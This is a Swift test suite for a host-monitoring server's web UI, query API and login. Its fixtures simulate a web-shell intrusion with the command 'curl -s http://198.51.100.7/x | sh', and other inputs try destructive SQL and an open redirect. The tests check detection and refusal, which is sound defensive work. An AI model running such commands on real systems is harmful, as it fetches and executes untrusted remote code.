import Foundation
import HerdwatchStore
import HerdwatchTestSupport
import Hummingbird
import HummingbirdTesting
import Logging
import Testing

@testable import HerdwatchServer

/// The web UI in a real headless Chromium (Debian's), the query API, and sign-in.
@Suite struct WebUITests {
    static let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"].first { FileManager.default.isExecutableFile(atPath: $0) }
    static let tokens = ["web1-token-0123456789": "web1", "db1-token-01234567890": "db1"]

    /// A small fleet: web1 (role=web) where nginx started a shell that ran curl, which ran sh; db1
    /// (role=db) with one login; a heartbeat from web1.
    static let fleet: [(token: String, lines: [String])] = {
        func process(_ id: String, host: String, second: Int, executable: String, commandLine: String, entity: String, parent: String, parentExecutable: String) -> String {
            #"{"@timestamp":"2026-11-23T10:00:\#(String(format: "%02d", second)).000Z","event":{"kind":"event","category":["process"],"type":["start"],"action":"process-started","outcome":"success","id":"\#(id)"},"host":{"name":"\#(host)"},"process":{"pid":\#(100 + second),"executable":"\#(executable)","command_line":"\#(commandLine)","entity_id":"\#(entity)","parent":{"entity_id":"\#(parent)","executable":"\#(parentExecutable)"}},"user":{"name":"www-data"}}"#
        }
        let web1 = [
            process("w1", host: "web1", second: 1, executable: "/usr/sbin/nginx", commandLine: "nginx: worker process", entity: "E-nginx", parent: "E-init", parentExecutable: "/usr/lib/systemd/systemd"),
            process("w2", host: "web1", second: 2, executable: "/usr/bin/bash", commandLine: "bash -c curl -s http://198.51.100.7/x | sh", entity: "E-bash", parent: "E-nginx", parentExecutable: "/usr/sbin/nginx"),
            process("w3", host: "web1", second: 3, executable: "/usr/bin/curl", commandLine: "curl -s http://198.51.100.7/x", entity: "E-curl", parent: "E-bash", parentExecutable: "/usr/bin/bash"),
            process("w4", host: "web1", second: 3, executable: "/usr/bin/sh", commandLine: "sh", entity: "E-sh", parent: "E-bash", parentExecutable: "/usr/bin/bash"),
            #"{"@timestamp":"2026-11-23T10:00:04.000Z","event":{"kind":"event","category":["network"],"action":"network-connected","outcome":"success","id":"w5"},"host":{"name":"web1"},"process":{"pid":103,"executable":"/usr/bin/curl","entity_id":"E-curl"},"destination":{"ip":"198.51.100.7","port":80}}"#,
            #"{"@timestamp":"2026-11-23T10:00:05.000Z","event":{"kind":"metric","module":"agent","category":["host"],"action":"agent-heartbeat","id":"w6"},"host":{"name":"web1"},"herdwatch":{"agent":{"interval_seconds":60,"events_per_second":{"auditd":12.5},"lost_total":0,"rss_bytes":31457280,"cpu_percent":0.8,"profile":"pet","cost":{"process":{"events_before":600,"events_after":600,"bytes_before":600000,"bytes_after":600000}}}}}"#,
            // A process that started before collection: only its exit is known.
            #"{"@timestamp":"2026-11-23T10:00:07.000Z","event":{"kind":"event","category":["process"],"type":["end"],"action":"process-exited","outcome":"success","id":"w7"},"host":{"name":"web1"},"process":{"pid":90,"executable":"/usr/sbin/cron","entity_id":"E-cron","exit_code":0}}"#,
        ]
        let db1 = [
            #"{"@timestamp":"2026-11-23T10:00:06.000Z","event":{"kind":"event","category":["authentication"],"action":"user-login","outcome":"success","id":"d1"},"host":{"name":"db1"},"user":{"name":"alice"},"source":{"ip":"192.0.2.10"}}"#
        ]
        return [("web1-token-0123456789", web1), ("db1-token-01234567890", db1)]
    }()

    /// Runs `test` against a server with the fleet's events in a new store, after `setUp` has
    /// written what else the test needs into the store.
    func withServer(
        users: UserDirectory? = nil, live: Bool = false, postgres: Bool = false, setUp: @Sendable (any FleetStore) async throws -> Void = { _ in },
        _ test: @Sendable (any TestClientProtocol) async throws -> Void
    ) async throws {
        if postgres {
            let server = try await PostgresServer.start()
            defer { withExtendedLifetime(server) {} }
            try await PostgresStore.withStore(try PostgresStore.Configuration(url: server.url)) { store in
                try await setUp(store)
                try await withServer(store: store, users: users, live: live, test)
            }
            return
        }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("herdwatch-ui-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let store = try EventStore(path: folder.appendingPathComponent("events.db").path)
        try await setUp(store)
        try await withServer(store: store, users: users, live: live, test)
    }

    /// An alert on web1 (bash started by nginx) and three responses, one to it with its command
    /// answered: what the Responses page shows.
    static func recordResponses(in store: any FleetStore) async throws {
        let now = Int64(Date().timeIntervalSince1970 * 1000)
        try await store.store(alerts: [
            StoredAlert(
                id: "alert-1", host: "web1", time: now - 120_000, ruleID: "web-shell", ruleTitle: "Shell started by a web server", level: "high",
                severity: 73, correlation: nil, entityID: "E-bash", pid: 102, executable: "/usr/bin/bash", commandLine: "bash -c curl",
                userName: "www-data", eventIDs: ["w2"], tags: [], json: "{}")
        ])
        try await store.record(responses: [
            StoredResponse(
                id: "resp-kill", time: now - 60_000, host: "web1", alertID: "alert-1", ruleID: "web-shell", ruleTitle: "Shell started by a web server",
                policy: "contain-web-shells", action: "kill", target: "E-bash", status: "sent", commandID: "cmd-1"),
            StoredResponse(
                id: "resp-notify", time: now - 59_000, host: "web1", alertID: "alert-1", ruleID: "web-shell",
                ruleTitle: "Shell started by a web server", policy: "contain-web-shells", action: "notify", target: "ops-webhook", dryRun: true,
                status: "dry-run", detail: "would post to ops-webhook"),
            StoredResponse(
                id: "resp-block", time: now - 30_000, host: "db1", policy: "manual", action: "block", target: "192.0.2.10", status: "failed",
                detail: "nft: permission denied"),
        ])
        #expect(try await store.updateResponse(commandID: "cmd-1", status: "succeeded", detail: "pid 102 killed", time: now - 50_000))
    }

    func withServer(
        store: any FleetStore, users: UserDirectory?, live: Bool, _ test: @Sendable (any TestClientProtocol) async throws -> Void
    ) async throws {
        var settings = ServerRuntime.Settings(
            ingest: IngestConfiguration(tokens: Self.tokens, hostTags: ["web1": ["role": "web", "env": "prod"], "db1": ["role": "db", "env": "prod"]]))
        settings.web.users = users
        settings.port = 0
        let runtime = try ServerRuntime(settings: settings, store: store, logger: Logger(label: "test"))
        try await store.register(hosts: settings.ingest.hostTags)
        let app = Application(router: runtime.router(), configuration: .init(address: .hostname("127.0.0.1", port: 0)))
        try await app.test(live ? .live : .router) { client in
            for (token, lines) in Self.fleet {
                let status = try await client.execute(
                    uri: "/api/v1/events", method: .post, headers: [.authorization: "Bearer \(token)"],
                    body: ByteBuffer(string: lines.joined(separator: "\n"))
                ) { $0.status }
                #expect(status == .ok)
            }
            try await test(client)
        }
    }

    /// Runs headless Chromium on a page: its DOM after load, and a screenshot in the artifacts folder.
    func browse(_ url: String, screenshot name: String) async throws -> String {
        let profile = FileManager.default.temporaryDirectory.appendingPathComponent("herdwatch-chromium-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: profile) }
        let artifacts = URL(fileURLWithPath: ProcessInfo.processInfo.environment["HERDWATCH_TEST_ARTIFACTS"] ?? ".build/test-artifacts")
            .appendingPathComponent("ui")
        try FileManager.default.createDirectory(at: artifacts, withIntermediateDirectories: true)
        let common = [
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--user-data-dir=\(profile.path)",
            "--window-size=1400,900",
        ]
        let dom = try await run(Self.chromium!, common + ["--dump-dom", url])
        _ = try await run(Self.chromium!, common + ["--screenshot=\(artifacts.appendingPathComponent(name).path)", url])
        #expect(FileManager.default.fileExists(atPath: artifacts.appendingPathComponent(name).path), "screenshot \(name)")
        return dom
    }

    /// A program's standard output; stopped (by its PID) after 60 s. The waiting happens on a thread
    /// of its own: blocking the concurrency pool (two threads on two cores) would starve the server
    /// the program is reading from.
    func run(_ program: String, _ arguments: [String]) async throws -> String {
        try await withCheckedThrowingContinuation { (continuation: CheckedContinuation<String, any Error>) in
            let thread = Thread {
                let process = Process()
                process.executableURL = URL(fileURLWithPath: program)
                process.arguments = arguments
                let output = Pipe()
                process.standardOutput = output
                process.standardError = FileHandle.nullDevice
                do {
                    try process.run()
                } catch {
                    continuation.resume(throwing: error)
                    return
                }
                let pid = process.processIdentifier
                let watchdog = DispatchWorkItem { kill(pid, SIGKILL) }
                DispatchQueue.global().asyncAfter(deadline: .now() + 60, execute: watchdog)
                let data = output.fileHandleForReading.readDataToEndOfFile()
                var status: Int32 = 0
                while waitpid(pid, &status, 0) < 0 && errno == EINTR {}
                watchdog.cancel()
                continuation.resume(returning: String(decoding: data, as: UTF8.self))
            }
            thread.start()
        }
    }

    @Test(.enabled(if: chromium != nil, "needs Debian's chromium (scripts/setup installs it)"))
    func chromiumLoadsHostsRunsASearchAndOpensAProcessTree() async throws {
        try await withServer(live: true) { client in
            let base = "http://127.0.0.1:\(try #require(client.port))"
            let hosts = try await browse(base + "/hosts", screenshot: "hosts.png")
            #expect(hosts.contains(#"<a href="/events?hosts=web1&amp;since=-1h">web1</a>"#))
            #expect(hosts.contains("env=prod,role=web") && hosts.contains("env=prod,role=db"))
            #expect(hosts.contains(#"<td class="level">pet</td>"#), "the level from the heartbeat")
            #expect(hosts.contains("864.0 MB"), "cost per day: 600 kB a minute")

            let search = try await browse(base + "/events?hosts=role%3Dweb&text=198.51.100.7", screenshot: "search.png")
            #expect(search.contains("bash -c curl -s http://198.51.100.7/x | sh") && search.contains("curl -s http://198.51.100.7/x"))
            #expect(!search.contains("user-login"), "db1 is not role=web")
            #expect(search.contains(#"<a class="entity" href="/process/E-curl">E-curl</a>"#))

            let sql = try await browse(
                base + "/events?sql=" + "SELECT host, count(*) AS n FROM events GROUP BY host ORDER BY host".addingPercentEncoding(withAllowedCharacters: .alphanumerics)!,
                screenshot: "sql.png")
            #expect(sql.contains("<td>db1</td><td class=\"number\">1</td>") && sql.contains("<td>web1</td><td class=\"number\">7</td>"))
            let refused = try await browse(base + "/events?sql=DELETE%20FROM%20events", screenshot: "refused.png")
            #expect(refused.contains("DELETE statements are not allowed"))

            let tree = try await browse(base + "/process/E-bash", screenshot: "process-tree.png")
            // Ancestors outermost first: systemd (before collection), nginx; then bash; children curl and sh.
            let order = ["/usr/lib/systemd/systemd", "/usr/sbin/nginx", "proc current", "/usr/bin/curl", "/usr/bin/sh"]
                .map { tree.range(of: $0)?.lowerBound }
            #expect(order.allSatisfy { $0 != nil }, "\(tree)")
            #expect(zip(order, order.dropFirst()).allSatisfy { $0! < $1! }, "ancestors, self, children in order")
            #expect(tree.contains(#"href="/process/E-nginx""#) && tree.contains(#"href="/process/E-curl""#))
            #expect(tree.contains("(started before collection)"))
        }
    }

    @Test(.enabled(if: chromium != nil, "needs Debian's chromium (scripts/setup installs it)"))
    func chromiumListsResponsesAndAlertsLinkToThem() async throws {
        try await withServer(live: true, setUp: Self.recordResponses) { client in
            let base = "http://127.0.0.1:\(try #require(client.port))"
            let responses = try await browse(base + "/responses", screenshot: "responses.png")
            #expect(responses.contains(#"<a href="/responses" class="here">Responses</a>"#))
            #expect(responses.contains(#"<a class="entity" href="/process/E-bash">E-bash</a>"#), "a process target links to its page")
            #expect(responses.contains("<td>ops-webhook</td>") && responses.contains("<td>192.0.2.10</td>"), "other targets do not")
            #expect(responses.contains(#"<td class="status succeeded">succeeded</td>"#) && responses.contains("pid 102 killed"))
            #expect(responses.contains("<td>dry run</td>") && responses.contains("contain-web-shells") && responses.contains("Shell started by a web server"))
            let order = ["<td>192.0.2.10</td>", "<td>ops-webhook</td>", ">E-bash</a>"].map { responses.range(of: $0)?.lowerBound }
            #expect(order.allSatisfy { $0 != nil } && zip(order, order.dropFirst()).allSatisfy { $0! < $1! }, "newest first")

            let alerts = try await browse(base + "/alerts", screenshot: "alerts.png")
            #expect(alerts.contains(#"<a href="/responses?alert=alert-1">2</a>"#), "\(alerts)")

            func page(_ uri: String) async throws -> String { try await client.execute(uri: uri, method: .get) { String(buffer: $0.body) } }
            let forAlert = try await page("/responses?alert=alert-1")
            #expect(forAlert.contains("E-bash") && forAlert.contains("ops-webhook") && !forAlert.contains("192.0.2.10"))
            let failed = try await page("/responses?status=failed")
            #expect(failed.contains("nft: permission denied") && !failed.contains("pid 102 killed") && failed.contains("<option selected>failed</option>"))
            let web = try await page("/responses?hosts=role%3Dweb")
            #expect(web.contains("pid 102 killed") && !web.contains("192.0.2.10"))
            let badTime = try await page("/responses?since=yesterday")
            #expect(badTime.contains("since: &#39;yesterday&#39; is not a time"))
        }
    }

    @Test(arguments: [false, true])
    func theQueryAPIAnswersInScopeAndRefusesWrites(postgres: Bool) async throws {
        try await withServer(postgres: postgres) { client in
            func get(_ query: String) async throws -> (HTTPResponse.Status, [String: Any], String) {
                try await client.execute(uri: "/api/v1/query?" + query, method: .get) { response in
                    let text = String(buffer: response.body)
                    return (response.status, (try? JSONSerialization.jsonObject(with: Data(text.utf8))) as? [String: Any] ?? [:], text)
                }
            }
            let (status, object, _) = try await get("sql=SELECT%20DISTINCT%20host%20FROM%20events&hosts=role%3Ddb")
            #expect(status == .ok)
            #expect(object["columns"] as? [String] == ["host"] && (object["rows"] as? [[Any]])?.first?.first as? String == "db1")
            let (refused, error, _) = try await get("sql=DROP%20TABLE%20events")
            #expect(refused == .badRequest && (error["error"] as? String ?? "").contains("DROP statements are not allowed"))
            let (badTime, timeError, _) = try await get("sql=SELECT%201&since=yesterday")
            #expect(badTime == .badRequest && (timeError["error"] as? String ?? "").contains("since: 'yesterday' is not a time"))
            // Full-text search over command lines: the events with every word.
            let (_, found, _) = try await get("sql=SELECT%20id%20FROM%20processes%20ORDER%20BY%20id&search=curl%20sh")
            #expect((found["rows"] as? [[Any]])?.compactMap { $0.first as? String } == ["w2"], "\(found)")
            let (_, _, csv) = try await get("sql=SELECT%20name,%20tags%20FROM%20hosts%20ORDER%20BY%20name&format=csv")
            #expect(csv == "name,tags\ndb1,\"env=prod,role=db\"\nweb1,\"env=prod,role=web\"\n")
            let posted = try await client.execute(
                uri: "/api/v1/query", method: .post, body: ByteBuffer(string: #"{"sql": "SELECT count(*) AS n FROM processes", "hosts": "web1", "limit": 5}"#)
            ) { String(buffer: $0.body) }
            #expect(posted.contains(#""rows":[[5]]"#), "\(posted)")
        }
    }

    /// Every page's queries run on PostgreSQL too (agent batches in over HTTP, pages out).
    @Test(.enabled(if: PostgresServer.available, "needs PostgreSQL 15 (scripts/setup installs it)"))
    func pagesWorkOverPostgreSQL() async throws {
        try await withServer(postgres: true, setUp: Self.recordResponses) { client in
            func page(_ uri: String) async throws -> (HTTPResponse.Status, String) {
                try await client.execute(uri: uri, method: .get) { ($0.status, String(buffer: $0.body)) }
            }
            let hosts = try await page("/hosts?hosts=role%3Dweb")
            #expect(hosts.0 == .ok && hosts.1.contains("env=prod,role=web") && !hosts.1.contains("role=db"))
            let search = try await page("/events?hosts=all&text=198.51.100.7&since=2026-11-23T00:00:00Z")
            #expect(search.1.contains("bash -c curl -s http://198.51.100.7/x | sh"), "\(search.1)")
            #expect(search.1.contains("<th>outcome</th>") && search.1.contains("<td>success</td>"), "the events table shows outcomes")
            let failures = try await page("/events?outcome=failure")
            #expect(failures.0 == .ok && failures.1.contains(#"<option selected>failure</option>"#) && !failures.1.contains("<td>success</td>"), "\(failures.1)")
            let words = try await page("/events?words=curl%20sh")
            #expect(words.1.contains("bash -c curl -s http://198.51.100.7/x | sh") && !words.1.contains("<td>curl -s http://198.51.100.7/x</td>"), "\(words.1)")
            let tree = try await page("/process/E-bash")
            #expect(tree.1.contains("<span class=\"time\">2026-11-23T10:00:02.000Z</span>"), "a collected start's time")
            let exitOnly = try await page("/process/E-cron")
            #expect(exitOnly.0 == .ok && exitOnly.1.contains("<span class=\"time\">first seen 2026-11-23T10:00:07.000Z</span>"), "\(exitOnly.1)")
            #expect(tree.0 == .ok && tree.1.contains(#"href="/process/E-nginx""#) && tree.1.contains(#"href="/process/E-curl""#))
            let alerts = try await page("/alerts")
            #expect(alerts.0 == .ok && alerts.1.contains(#"<a href="/responses?alert=alert-1">2</a>"#), "\(alerts.1)")
            let responses = try await page("/responses?hosts=web1")
            #expect(responses.0 == .ok && responses.1.contains(#"<a class="entity" href="/process/E-bash">E-bash</a>"#), "\(responses.1)")
            #expect(responses.1.contains("pid 102 killed") && !responses.1.contains("192.0.2.10"))
            let hunts = try await page("/hunts")
            #expect(hunts.0 == .ok && hunts.1.contains("rare-parent-child"))
            let duplicate = try await client.execute(
                uri: "/api/v1/events", method: .post, headers: [.authorization: "Bearer web1-token-0123456789"],
                body: ByteBuffer(string: Self.fleet[0].lines.joined(separator: "\n"))
            ) { String(buffer: $0.body) }
            #expect(duplicate.contains(#""duplicates":7"#) && duplicate.contains(#""stored":0"#), "\(duplicate)")
        }
    }

    @Test func signInGuardsPagesAndTheAPI() async throws {
        let hash = try #require(PasswordHash.make("correct horse"))
        #expect(hash.hasPrefix("$y$"))
        let users = UserDirectory(hashes: ["alice": hash])
        #expect(users.verify(name: "alice", password: "correct horse"))
        #expect(!users.verify(name: "alice", password: "wrong") && !users.verify(name: "bob", password: "correct horse"))
        // Beyond loopback without users is refused at start.
        var open = ServerRuntime.Settings(ingest: IngestConfiguration(tokens: [:]))
        open.host = "0.0.0.0"
        #expect(throws: IngestSetupError.self) { try ServerRuntime(settings: open, store: try EventStore(path: FileManager.default.temporaryDirectory.appendingPathComponent("herdwatch-open-\(UUID().uuidString).db").path), logger: Logger(label: "test")) }

        try await withServer(users: users) { client in
            let redirect = try await client.execute(uri: "/hosts?hosts=web1", method: .get) { ($0.status, $0.headers[.location]) }
            #expect(redirect.0 == .seeOther && redirect.1 == "/login?next=%2Fhosts%3Fhosts%3Dweb1")
            #expect(try await client.execute(uri: "/api/v1/query?sql=SELECT%201", method: .get) { $0.status } == .unauthorized)
            // Agents still post with their tokens (done by withServer).
            let form: HTTPFields = [.contentType: "application/x-www-form-urlencoded"]
            let wrong = try await client.execute(
                uri: "/login", method: .post, headers: form, body: ByteBuffer(string: "user=alice&password=nope&next=%2Fhosts")
            ) { $0.status }
            #expect(wrong == .unauthorized)
            let (status, location, cookie) = try await client.execute(
                uri: "/login", method: .post, headers: form, body: ByteBuffer(string: "user=alice&password=correct+horse&next=%2Falerts")
            ) { ($0.status, $0.headers[.location], $0.headers[.setCookie]) }
            #expect(status == .seeOther && location == "/alerts")
            let session = try #require(cookie?.split(separator: ";").first.map(String.init))
            #expect(try await client.execute(uri: "/hosts", method: .get, headers: [.cookie: session]) { $0.status } == .ok)
            let basic = "Basic " + Data("alice:correct horse".utf8).base64EncodedString()
            #expect(try await client.execute(uri: "/api/v1/query?sql=SELECT%201", method: .get, headers: [.authorization: basic]) { $0.status } == .ok)
            // An open redirect is not possible.
            let offsite = try await client.execute(
                uri: "/login", method: .post, headers: form, body: ByteBuffer(string: "user=alice&password=correct+horse&next=%2F%2Fevil.example")
            ) { $0.headers[.location] }
            #expect(offsite == "/hosts")
        }
    }
}
